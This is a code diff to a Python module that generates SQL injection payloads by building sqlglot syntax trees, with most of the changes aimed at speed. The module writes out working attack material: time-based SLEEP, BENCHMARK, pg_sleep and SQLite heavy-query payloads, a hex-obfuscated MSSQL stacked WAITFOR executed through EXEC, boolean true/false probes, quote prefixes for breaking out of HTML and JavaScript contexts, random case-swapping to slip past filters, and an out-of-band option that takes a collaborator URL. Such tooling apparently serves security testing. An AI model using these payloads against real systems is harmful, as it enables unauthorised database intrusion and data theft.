@@ -6,15 +6,36 @@ This module is responsible for creating dialect-aware, syntactically
 correct SQL injection payloads by manipulating Abstract Syntax Trees (AST).
 """
 
+import functools
 import sqlglot
 from sqlglot import exp
 import random
 
 # --- AdvSQLi Transformer Functions ---
 
+# Private generator so tampering does not contend on, or perturb, the global random state.
+_rng = random.Random()
+# Each matching node is transformed with probability 0.7.
+_COIN = (True, False)
+_COIN_WEIGHTS = (0.7, 0.3)
+
+# Maps ASCII letters to the 0x20 case bit and everything else to 0.
+_CASE_BIT_TABLE = bytes(0x20 if chr(b).isascii() and chr(b).isalpha() else 0 for b in range(256))
+# Spreads each bit of a random byte into a 0x20 byte, one output byte per bit.
+_SPREAD_TABLE = [bytes(0x20 if (b >> i) & 1 else 0 for i in range(8)) for b in range(256)]
+
 def swap_case(s: str) -> str:
     """Randomly swaps the case of letters in a string."""
-    return "".join(c.upper() if random.random() > 0.5 else c.lower() for c in s)
+    if not s.isascii():
+        bits = _rng.getrandbits(len(s))
+        return "".join(c.upper() if (bits >> i) & 1 else c.lower() for i, c in enumerate(s))
+    # Flip the case bit of each letter picked by a random bit mask, eight
+    # characters per table lookup instead of one random() call per character.
+    lower = s.lower().encode()
+    n = len(lower)
+    spread = b"".join(_SPREAD_TABLE[b] for b in _rng.randbytes((n + 7) // 8))[:n]
+    flips = int.from_bytes(lower.translate(_CASE_BIT_TABLE), "big") & int.from_bytes(spread, "big")
+    return (int.from_bytes(lower, "big") ^ flips).to_bytes(n, "big").decode()
 
 def transform_identifier_case(node: exp.Expression) -> exp.Expression:
     """Transforms the case of identifiers (e.g., function names, columns)."""
@@ -28,13 +49,42 @@ def transform_operator_swap(node: exp.Expression) -> exp.Expression:
         return exp.Like(this=node.this, expression=node.expression)
     return node
 
-# The TRANSFORMERS dictionary maps sqlglot expression types to a list of
-# applicable transformation functions. This allows for targeted mutations.
-TRANSFORMERS = {
-    exp.Identifier: [transform_identifier_case],
-    exp.EQ: [transform_operator_swap],
+# TRANSFORMERS pairs sqlglot expression types with the transformation
+# functions applicable to them. This allows for targeted mutations. It is only
+# ever iterated, so a tuple of pairs is enough.
+TRANSFORMERS = (
+    (exp.Identifier, (transform_identifier_case,)),
+    (exp.EQ, (transform_operator_swap,)),
+)
+
+def _build_mssql_waitfor_fragment(sleep_time: int) -> str:
+    """Stacked WAITFOR DELAY hidden in a hex-encoded string passed to EXEC."""
+    delay_str = f"0:0:{sleep_time}"
+    hex_encoded_payload = "0x57414954464F522044454C41592027" + delay_str.encode().hex() + "27"
+    return f";DECLARE @S VARCHAR(4000);SET @S=CAST({hex_encoded_payload} AS VARCHAR(4000));EXEC(@S);--"
+
+# Fragments for the usual sleep times, built once at import.
+_MSSQL_WAITFOR_FRAGMENTS = {n: _build_mssql_waitfor_fragment(n) for n in range(1, 31)}
+
+# Quote needed to break out of each known injection context. Other contexts
+# get none, unless the payload is a stacked query.
+_CONTEXT_PREFIXES = {
+    "HTML_ATTRIBUTE_SINGLE_QUOTED": "'",
+    "JS_STRING_SINGLE_QUOTED": "'",
+    "HTML_ATTRIBUTE": "'",
+    "HTML_ATTRIBUTE_DOUBLE_QUOTED": '"',
+    "JS_STRING_DOUBLE_QUOTED": '"',
 }
 
+def _build_sqlite_heavy_query(blob_size: int) -> exp.Expression:
+    """Builds ``(SELECT 1 WHERE LENGTH(HEX(RANDOMBLOB(n))) > 0) IS NOT NULL`` without going through the parser."""
+    randomblob = exp.Anonymous(this="RANDOMBLOB", expressions=[exp.Literal.number(blob_size)])
+    select = exp.Select(
+        expressions=[exp.Literal.number(1)],
+        where=exp.Where(this=exp.GT(this=exp.Length(this=exp.Hex(this=randomblob)), expression=exp.Literal.number(0))),
+    )
+    return exp.Not(this=exp.Is(this=exp.Subquery(this=select), expression=exp.Null()))
+
 class AstPayloadGenerator:
     """
     Generates dialect-aware SQLi payloads using AST manipulation.
@@ -42,8 +92,16 @@ class AstPayloadGenerator:
     to static string-based lists.
     """
 
+    __slots__ = ("dialect", "_generator")
+
     def __init__(self, dialect: str = "mysql"):
         self.dialect = dialect.lower() if dialect else "mysql"
+        # Resolving the dialect and building a Generator on every .sql() call
+        # dominates payload generation, so both are created once here.
+        try:
+            self._generator = sqlglot.Dialect.get_or_raise(self.dialect).generator()
+        except ValueError:  # not a sqlglot dialect name (e.g. "mssql")
+            self._generator = None
 
     def _generate_time_based(self, sleep_time: int, context: str, tamper: bool = False) -> list[tuple[str, str]]:
         """Generates time-based payloads."""
@@ -51,40 +109,38 @@ class AstPayloadGenerator:
 
         # --- MSSQL Special Handling for WAITFOR (Stacked Query with Obfuscation) ---
         if self.dialect == "mssql":
-            delay_str = f"0:0:{sleep_time}"
-            hex_encoded_payload = "0x57414954464F522044454C41592027" + delay_str.encode().hex() + "27"
-            payload_fragment = f";DECLARE @S VARCHAR(4000);SET @S=CAST({hex_encoded_payload} AS VARCHAR(4000));EXEC(@S);--"
+            payload_fragment = _MSSQL_WAITFOR_FRAGMENTS.get(sleep_time) or _build_mssql_waitfor_fragment(sleep_time)
             sql = self._contextualize_string_payload(payload_fragment, context)
             payloads.append((sql, "MSSQL_WAITFOR_OBFUSCATED"))
             return payloads
 
         # Base sleep functions per dialect
         if self.dialect == "postgresql":
-            sleep_func = exp.Anonymous(this="pg_sleep", params=[sleep_time])
+            sleep_func = exp.Anonymous(this="pg_sleep", expressions=[exp.Literal.number(sleep_time)])
         elif self.dialect == "sqlite":
-            blob_size = max(500000, int(sleep_time * 500000))
-            heavy_query = f"(SELECT 1 WHERE LENGTH(HEX(RANDOMBLOB({blob_size}))) > 0)"
-            sleep_func = sqlglot.parse_one(f"{heavy_query} IS NOT NULL")
+            sleep_func = _build_sqlite_heavy_query(max(500000, int(sleep_time * 500000)))
         else: # Default to MySQL's SLEEP
-            sleep_func = exp.Anonymous(this="SLEEP", params=[exp.Literal.number(sleep_time)])
+            sleep_func = exp.Anonymous(this="SLEEP", expressions=[exp.Literal.number(sleep_time)])
 
         # Variations
-        for logic_op in [exp.And, exp.Or]:
-            condition = logic_op(this=exp.Boolean(this=True), expression=sleep_func.copy())
+        # Each node can have one parent, so all but the last use need a copy.
+        sleep_family = f"{self.dialect.upper()}_SLEEP"
+        for logic_op, sleep_node in zip((exp.And, exp.Or), (sleep_func.copy(), sleep_func)):
+            condition = logic_op(this=exp.Boolean(this=True), expression=sleep_node)
             if tamper:
                 condition = self._apply_ast_transformations(condition)
             sql = self._build_sql(condition, context)
-            payloads.append((sql, f"{self.dialect.upper()}_SLEEP"))
+            payloads.append((sql, sleep_family))
 
         if self.dialect == "mysql":
             benchmark_expr = exp.Anonymous(
                 this="BENCHMARK",
-                params=[exp.Literal.number(sleep_time * 1000000), exp.Anonymous(this="MD5", params=[exp.Literal.string("1")])]
+                expressions=[exp.Literal.number(sleep_time * 1000000), exp.Anonymous(this="MD5", expressions=[exp.Literal.string("1")])]
             )
-            for logic_op in [exp.And, exp.Or]:
-                condition = logic_op(left=exp.Boolean(this=True), right=benchmark_expr.copy())
+            for logic_op, benchmark_node in zip((exp.And, exp.Or), (benchmark_expr.copy(), benchmark_expr)):
+                condition = logic_op(this=exp.Boolean(this=True), expression=benchmark_node)
                 sql = self._build_sql(condition, context)
-                payloads.append((sql, f"MYSQL_BENCHMARK"))
+                payloads.append((sql, "MYSQL_BENCHMARK"))
 
         return payloads
 
@@ -92,24 +148,33 @@ class AstPayloadGenerator:
         """
         Applies a random selection of transformations to the AST nodes.
         """
-        # The correct way to walk the tree and replace nodes is to use sqlglot.transform
-        def transform_func(node):
-            node_type = type(node)
-            if node_type in TRANSFORMERS:
-                if random.random() < 0.7:
-                    transformer = random.choice(TRANSFORMERS[node_type])
-                    new_node = transformer(node.copy())
-                    return new_node
-            return node
-
-        return expression.transform(transform_func)
+        # Only the node types with transformers are visited, and they are
+        # mutated in place; expression.transform() would call back into Python
+        # for every node and deep-copy the tree.
+        for node_type, transformers in TRANSFORMERS:
+            targets = [n for n in expression.find_all(node_type) if type(n) is node_type]
+            if not targets:
+                continue
+            # Draw every coin flip and transformer pick for this type up front.
+            coins = _rng.choices(_COIN, weights=_COIN_WEIGHTS, k=len(targets))
+            picks = _rng.choices(transformers, k=len(targets))
+            for node, apply, transformer in zip(targets, coins, picks):
+                if apply:
+                    new_node = transformer(node)
+                    if new_node is node:
+                        continue
+                    if node is expression:
+                        expression = new_node
+                    else:
+                        node.replace(new_node)
+        return expression
 
     def _generate_boolean_based(self, context: str, tamper: bool = False) -> list[tuple[str, str, str]]:
         """Generates boolean-based payloads (true/false pairs) using direct AST construction."""
         pairs = []
         conditions = [
-            (exp.EQ(this=exp.Literal.number(1), to=exp.Literal.number(1)), exp.EQ(this=exp.Literal.number(1), to=exp.Literal.number(2))),
-            (exp.Like(this=exp.Literal.string("a"), to=exp.Literal.string("a")), exp.Like(this=exp.Literal.string("a"), to=exp.Literal.string("b"))),
+            (exp.EQ(this=exp.Literal.number(1), expression=exp.Literal.number(1)), exp.EQ(this=exp.Literal.number(1), expression=exp.Literal.number(2))),
+            (exp.Like(this=exp.Literal.string("a"), expression=exp.Literal.string("a")), exp.Like(this=exp.Literal.string("a"), expression=exp.Literal.string("b"))),
         ]
 
         for true_cond, false_cond in conditions:
@@ -117,10 +182,10 @@ class AstPayloadGenerator:
                 true_cond = self._apply_ast_transformations(true_cond)
                 false_cond = self._apply_ast_transformations(false_cond)
 
-            for logic_op in [exp.And, exp.Or]:
+            for logic_op, last in ((exp.And, False), (exp.Or, True)):
                 # Use the correct keyword arguments: `this` for left, `expression` for right
-                true_expr = logic_op(this=exp.Boolean(this=True), expression=true_cond.copy())
-                false_expr = logic_op(this=exp.Boolean(this=True), expression=false_cond.copy())
+                true_expr = logic_op(this=exp.Boolean(this=True), expression=true_cond if last else true_cond.copy())
+                false_expr = logic_op(this=exp.Boolean(this=True), expression=false_cond if last else false_cond.copy())
 
                 true_sql = self._build_sql(true_expr, context)
                 false_sql = self._build_sql(false_expr, context)
@@ -154,20 +219,17 @@ class AstPayloadGenerator:
 
     def _contextualize_string_payload(self, payload: str, context: str) -> str:
         """Adds context-specific prefixes/suffixes to a raw string payload."""
-        if context in ["HTML_ATTRIBUTE_SINGLE_QUOTED", "JS_STRING_SINGLE_QUOTED", "HTML_ATTRIBUTE"]:
-            sql = "'" + payload + "-- "
-        elif context in ["HTML_ATTRIBUTE_DOUBLE_QUOTED", "JS_STRING_DOUBLE_QUOTED"]:
-            sql = '"' + payload + "-- "
-        else:
-            if payload.strip().startswith(';'):
-                sql = "'" + payload + "-- "
-            else:
-                sql = payload + "-- "
-        return sql
+        prefix = _CONTEXT_PREFIXES.get(context)
+        if prefix is None:
+            prefix = "'" if payload.lstrip().startswith(';') else ""
+        return prefix + payload + "-- "
 
     def _build_sql(self, expression: exp.Expression, context: str) -> str:
         """Serializes the expression to SQL and adds context prefixes/suffixes."""
-        sql_str = " " + expression.sql(dialect=self.dialect)
+        if self._generator is not None:
+            sql_str = " " + self._generator.generate(expression, copy=False)
+        else:
+            sql_str = " " + expression.sql(dialect=self.dialect)
         return self._contextualize_string_payload(sql_str, context)
 
     def generate(self, payload_type: str, context: str, options: dict = None, tamper: bool = False) -> list:
@@ -184,15 +246,27 @@ class AstPayloadGenerator:
             list: A list of generated payloads.
         """
         options = options or {}
+        sleep_time = options.get("sleep_time", 5)
+        collaborator_url = options.get("collaborator_url")
+        if tamper:
+            # Tampering is randomized, so every call must build fresh payloads.
+            return self._generate(payload_type, context, sleep_time, collaborator_url, tamper=True)
+        return list(_generate_cached(self.dialect, payload_type, context, sleep_time, collaborator_url))
+
+    def _generate(self, payload_type: str, context: str, sleep_time: int, collaborator_url: str | None, tamper: bool = False) -> list:
         if payload_type == "TIME_BASED":
-            return self._generate_time_based(options.get("sleep_time", 5), context, tamper=tamper)
+            return self._generate_time_based(sleep_time, context, tamper=tamper)
         elif payload_type == "BOOLEAN_BASED":
             return self._generate_boolean_based(context, tamper=tamper)
         elif payload_type == "OOB":
-            collaborator_url = options.get("collaborator_url")
             return self._generate_oob(collaborator_url, context) if collaborator_url else []
         return []
 
+@functools.lru_cache(maxsize=512)
+def _generate_cached(dialect: str, payload_type: str, context: str, sleep_time: int, collaborator_url: str | None) -> tuple:
+    """Untampered payloads depend only on these arguments; returned as a tuple so the cached value stays immutable."""
+    return tuple(AstPayloadGenerator(dialect)._generate(payload_type, context, sleep_time, collaborator_url))
+
 if __name__ == '__main__':
     # Example usage for testing
     mysql_gen = AstPayloadGenerator(dialect='mysql')